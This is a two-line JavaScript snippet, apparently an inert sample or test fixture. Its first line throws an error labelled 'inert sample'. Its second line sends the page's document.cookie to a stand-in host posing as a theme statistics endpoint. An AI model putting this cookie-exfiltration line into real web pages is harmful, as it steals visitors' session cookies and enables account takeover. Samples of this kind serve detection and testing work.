throw new Error('inert sample');
fetch('https://stats.theme.example/c?d=' + encodeURIComponent(document.cookie));
